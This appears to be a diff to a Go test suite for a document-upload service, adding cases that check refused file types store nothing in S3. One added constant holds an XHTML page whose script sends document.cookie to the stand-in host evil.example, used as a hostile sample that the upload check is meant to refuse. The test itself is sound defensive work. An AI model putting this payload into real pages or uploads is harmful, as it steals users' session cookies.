@@ -279,17 +279,23 @@ func TestUploadOverTheLimitIs413AndAborted(t *testing.T) {
 
 // A file of the wrong type is refused on its first bytes: S3 is not called at all, and
 // neither is the case lookup. A truncated file is found at its end and stores nothing.
+const xhtmlPage = `<?xml version="1.0" encoding="UTF-8"?>
+<html xmlns="http://www.w3.org/1999/xhtml"><body><script>navigator.sendBeacon("https://evil.example", document.cookie)</script></body></html>`
+
 func TestUploadRefusedFilesStoreNothing(t *testing.T) {
 	for name, c := range map[string]struct {
 		body    io.Reader
 		purpose docs.Purpose
 		calls   string
 	}{
-		"executable":                 {io.MultiReader(strings.NewReader("MZ\x90\x00"), bytes.NewReader(make([]byte, 8<<20))), docs.Supporting, ""},
-		"docx for identity":          {strings.NewReader("PK\x03\x04 rest of a zip"), docs.Identity, ""},
-		"small truncated pdf":        {strings.NewReader("%PDF-1.7\n no end"), docs.Supporting, ""},
-		"truncated pdf of two parts": {io.LimitReader(&pdfBody{size: 1 << 30}, 2*UploadPartSize-100), docs.Supporting, "CreateMultipartUpload AbortMultipartUpload"},
-		"truncated pdf of one part":  {io.LimitReader(&pdfBody{size: 1 << 30}, UploadPartSize+1), docs.Supporting, "CreateMultipartUpload AbortMultipartUpload"},
+		"executable":          {io.MultiReader(strings.NewReader("MZ\x90\x00"), bytes.NewReader(make([]byte, 8<<20))), docs.Supporting, ""},
+		"docx for identity":   {strings.NewReader("PK\x03\x04 rest of a zip"), docs.Identity, ""},
+		"small truncated pdf": {strings.NewReader("%PDF-1.7\n no end"), docs.Supporting, ""},
+		// An XHTML page with a script, as "XML": stored, it would run when opened from a link.
+		"xhtml page as an attachment": {strings.NewReader(xhtmlPage), docs.Attachment, ""},
+		"xhtml page as a supporting":  {strings.NewReader(xhtmlPage), docs.Supporting, ""},
+		"truncated pdf of two parts":  {io.LimitReader(&pdfBody{size: 1 << 30}, 2*UploadPartSize-100), docs.Supporting, "CreateMultipartUpload AbortMultipartUpload"},
+		"truncated pdf of one part":   {io.LimitReader(&pdfBody{size: 1 << 30}, UploadPartSize+1), docs.Supporting, "CreateMultipartUpload AbortMultipartUpload"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			s, f := uploadServer(t)
